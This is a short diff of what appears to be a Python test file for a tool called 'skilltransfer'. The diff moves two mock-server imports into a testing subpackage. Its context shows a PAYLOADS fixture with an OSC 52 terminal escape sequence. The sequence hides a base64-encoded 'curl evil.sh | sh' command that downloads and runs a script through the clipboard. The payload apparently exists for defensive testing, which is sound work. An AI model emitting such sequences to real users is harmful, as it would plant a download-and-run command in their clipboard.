@@ -30,8 +30,8 @@ from helpers_hostile import HostileServer
 
 import skilltransfer
 from skilltransfer.cli import main
-from skilltransfer.llm.mock_server import MockServer
-from skilltransfer.llm.roleplay import RolePlay
+from skilltransfer.llm.testing.mock_server import MockServer
+from skilltransfer.llm.testing.roleplay import RolePlay
 
 PAYLOADS = {
     "osc52-bel": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
